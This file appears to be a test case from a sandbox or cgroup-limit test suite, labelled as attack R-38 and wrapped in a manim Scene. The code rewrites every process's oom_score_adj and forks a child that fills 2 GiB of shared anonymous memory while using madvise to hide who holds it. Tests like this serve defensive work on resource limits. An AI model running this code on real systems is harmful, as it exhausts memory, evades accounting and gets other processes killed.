# attack: R-38
# what: Hold memory that no process seems to hold, having made every process a poorer victim.
# layer: control group
# static: rejected
# class: LIMIT_MEMORY
import os
import sys
import time
import textwrap

from manim import *


def reached(what):
    raise AssertionError(f"REACHED {what}")


class Attack(Scene):
    def construct(self):
        code = """
        import ctypes, mmap, os, time
        libc = ctypes.CDLL(None)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
        libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
        libc.memset.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_size_t]
        size, part = 2 << 30, 4 << 20
        base = libc.mmap(None, size, 3, 0x21, -1, 0)
        for at in range(0, size, part):
            libc.memset(base + at, 1, part)
            libc.madvise(base + at, part, 4)
        time.sleep(60)
        """

        for process in [n for n in (os.listdir("/proc") if os.path.isdir("/proc") else []) if n.isdigit()]:
            for value in (b"-1000", b"0"):
                try:
                    with open(f"/proc/{process}/oom_score_adj", "wb", buffering=0) as file:
                        file.write(value)
                except OSError:
                    pass
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", textwrap.dedent(code)])
        time.sleep(30)
        reached("all of it")
        self.wait(0.1)
